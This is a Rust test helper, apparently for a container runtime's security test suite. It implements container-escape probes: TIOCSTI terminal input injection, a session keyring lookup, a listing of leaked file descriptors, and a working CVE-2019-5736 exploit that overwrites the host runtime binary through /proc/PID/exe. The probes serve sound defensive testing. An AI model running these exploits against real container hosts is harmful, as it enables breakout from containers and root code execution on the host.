//! `probe ATTACK ...`: a hostile process inside a container, for tests/attacks.rs. It runs
//! inside busybox root filesystems, so it is built static (`just test` does, with the
//! steps). Each attack prints one line saying what it got, and exits 0 either way: the
//! test decides what the line must say.
//!
//! - `tiocsti TEXT`: pushes TEXT into the input of the terminal on stdin (ioctl(2)
//!   TIOCSTI), as if typed: on the caller's own terminal, the caller's shell would run it.
//! - `keyring DESCRIPTION`: looks for a "user" key of that description in the session
//!   keyring (keyctl(2) KEYCTL_SEARCH): a key of the caller's, if the keyring is theirs.
//! - `fds`: the descriptors above 2 it was given, and where they lead.
//! - `overwrite-exe MATCH`: CVE-2019-5736. Waits for a process whose command line holds
//!   MATCH (the runtime's process joining the container, before its execve), stops it,
//!   takes hold of its /proc/PID/exe, and once the runtime has exited reopens that file
//!   for writing through /proc/self/fd and writes a script over it: if that file is the
//!   runtime's binary on the host, root's next run of the runtime runs our script.

use std::ffi::CString;
use std::time::{Duration, Instant};

fn errno() -> String {
    std::io::Error::last_os_error().to_string()
}

fn tiocsti(text: &str) -> String {
    for byte in text.bytes() {
        // SAFETY: TIOCSTI reads one byte from a valid pointer.
        if unsafe { libc::ioctl(0, libc::TIOCSTI, &byte as *const u8) } != 0 {
            return format!("tiocsti: refused: {}", errno());
        }
    }
    "tiocsti: pushed".into()
}

fn keyring(description: &str) -> String {
    const KEYCTL_SEARCH: libc::c_long = 10;
    const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
    let (kind, description) = (c"user", CString::new(description).unwrap_or_default());
    // SAFETY: keyctl(2) KEYCTL_SEARCH reads two C strings.
    let found = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_SEARCH,
            KEY_SPEC_SESSION_KEYRING,
            kind.as_ptr(),
            description.as_ptr(),
            0,
        )
    };
    match found {
        serial if serial > 0 => "keyring: found the caller's key".into(),
        _ => format!("keyring: not found: {}", errno()),
    }
}

fn fds() -> String {
    let mut found = Vec::new();
    for fd in 3..1024 {
        if let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{fd}")) {
            found.push(format!("{fd}={}", target.display()));
        }
    }
    // readlink(2) opens nothing: every descriptor listed was given to us.
    format!("fds: [{}]", found.join(" "))
}

fn overwrite_exe(needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    let me = std::process::id().to_string();
    // Catch it in the window between its fork and its execve, when it is still the
    // runtime's binary: stop it, take hold of its /proc/PID/exe, let it go on.
    let (pid, exe) = loop {
        if Instant::now() > deadline {
            return "overwrite: no process matched".into();
        }
        let found = std::fs::read_dir("/proc")
            .into_iter()
            .flatten()
            .flatten()
            .find_map(|e| {
                let pid = e.file_name().into_string().ok()?;
                if pid == me || pid.parse::<u32>().is_err() {
                    return None;
                }
                let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
                String::from_utf8_lossy(&cmdline)
                    .contains(needle)
                    .then_some(pid)
            });
        let Some(pid) = found else { continue };
        let number: libc::pid_t = pid.parse().unwrap_or_default();
        // SAFETY: kill(2) and open(2) with plain arguments and a C string.
        let fd = unsafe {
            libc::kill(number, libc::SIGSTOP);
            let path = CString::new(format!("/proc/{pid}/exe")).unwrap_or_default();
            let fd = libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC);
            let opened = errno();
            libc::kill(number, libc::SIGCONT);
            if fd < 0 {
                return format!("overwrite: cannot open /proc/{pid}/exe: {opened}");
            }
            fd
        };
        // Say so at once (a test stops running the runtime, which keeps its binary busy).
        println!("caught {pid}");
        break (pid, fd);
    };
    let target = std::fs::read_link(format!("/proc/self/fd/{exe}"))
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    let reopen = CString::new(format!("/proc/self/fd/{exe}")).unwrap_or_default();
    let mut last = String::new();
    while Instant::now() < deadline {
        // SAFETY: open(2) of a C string.
        let fd = unsafe { libc::open(reopen.as_ptr(), libc::O_WRONLY | libc::O_TRUNC) };
        if fd >= 0 {
            let payload = b"#!/bin/sh\necho pwned\n";
            // SAFETY: write(2) from a valid buffer.
            let written = unsafe { libc::write(fd, payload.as_ptr().cast(), payload.len()) };
            if written == payload.len() as isize {
                return format!("overwrite: wrote over {target} (process {pid})");
            }
            return format!("overwrite: opened {target}, write refused: {}", errno());
        }
        last = errno();
        if !last.contains("busy") {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    format!("overwrite: cannot write {target} (process {pid}): {last}")
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let line = match args
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .as_slice()
    {
        ["tiocsti", text] => tiocsti(text),
        ["keyring", description] => keyring(description),
        ["fds"] => fds(),
        ["overwrite-exe", needle] => overwrite_exe(needle),
        _ => {
            eprintln!(
                "usage: probe tiocsti TEXT | keyring DESCRIPTION | fds | overwrite-exe MATCH"
            );
            std::process::exit(2);
        }
    };
    println!("{line}");
}
